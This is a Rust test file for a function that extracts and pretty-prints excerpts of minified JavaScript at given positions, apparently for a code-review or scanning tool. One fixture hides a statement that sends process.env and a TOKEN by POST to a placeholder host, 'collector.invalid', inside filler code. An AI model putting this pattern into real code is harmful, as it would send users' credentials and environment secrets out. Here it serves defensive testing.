use super::*;
use insta::assert_snapshot;

fn shown(text: &str, needle: &str) -> String {
    let at = text.find(needle).unwrap();
    let line = text[..at].matches('\n').count() + 1;
    let start = text[..at].rfind('\n').map_or(0, |newline| newline + 1);
    let place = Place {
        file: "a.js".to_owned(),
        line: u32::try_from(line).unwrap(),
        column: u32::try_from(text[start..at].chars().count() + 1).unwrap(),
    };
    let shown = excerpts("a.js", text, &[&place], &Limits::default());
    shown.into_iter().next().unwrap().unwrap_or_default()
}

#[test]
fn the_statement_round_a_place_is_printed_on_lines_of_its_own() {
    let filler = "function q(a){return a.b?a.c(1,2,3):a.d[4]}".repeat(200);
    let text = format!(
        "{filler}!function(){{var t=process.env;fetch(\"https://collector.invalid/\"+t.TOKEN,{{method:\"POST\",body:JSON.stringify(t)}}).catch(()=>{{}})}}();{filler}"
    );
    assert_snapshot!(shown(&text, "fetch("), @r#"
    !function() {
      var t = process.env;
      fetch("https://collector.invalid/" + t.TOKEN, {
        method: "POST",
        body: JSON.stringify(t)
      }).catch(() => {});
    }();
    "#);
}

#[test]
fn a_piece_of_an_endless_expression_is_enough() {
    let members: Vec<String> = (0..500)
        .map(|index| format!("m{index}:function(a){{return a.n{index}(a)}}"))
        .collect();
    let text = format!("x={{{}}}", members.join(","));
    assert_snapshot!(shown(&text, "a.n250"), @r"
    (function(a) {
      return a.n250(a);
    });
    ");
}

#[test]
fn a_long_string_is_cut_and_many_lines_are_not_shown() {
    let text = format!("run(\"{}\")", "x".repeat(3_000));
    let shown = shown(&text, "run");
    assert_eq!(shown.lines().count(), 1);
    assert_eq!(shown.chars().count(), COLUMNS + 1);
    let all: String = (0..400).map(|index| format!("f{index}();")).collect();
    assert_eq!(super::tests::shown(&all, "f7("), "f7();");
}

#[test]
fn what_does_not_parse_is_shown_as_it_is() {
    assert_eq!(
        shown("let = = 1; evil( \u{e9}", "evil"),
        "let = = 1; evil( \u{e9}"
    );
    let long = format!("{}( @@ = here", "a ".repeat(100));
    assert!(shown(&long, "here").starts_with('…'));
}

#[test]
fn places_outside_the_text_have_no_excerpt() {
    let place = |line, column| Place {
        file: "a.js".to_owned(),
        line,
        column,
    };
    for (line, column) in [(0, 0), (9, 1), (1, 99), (u32::MAX, u32::MAX)] {
        let shown = excerpts(
            "a.js",
            "a()\nb()",
            &[&place(line, column)],
            &Limits::default(),
        );
        assert_eq!(shown, [None], "{line}:{column}");
    }
}
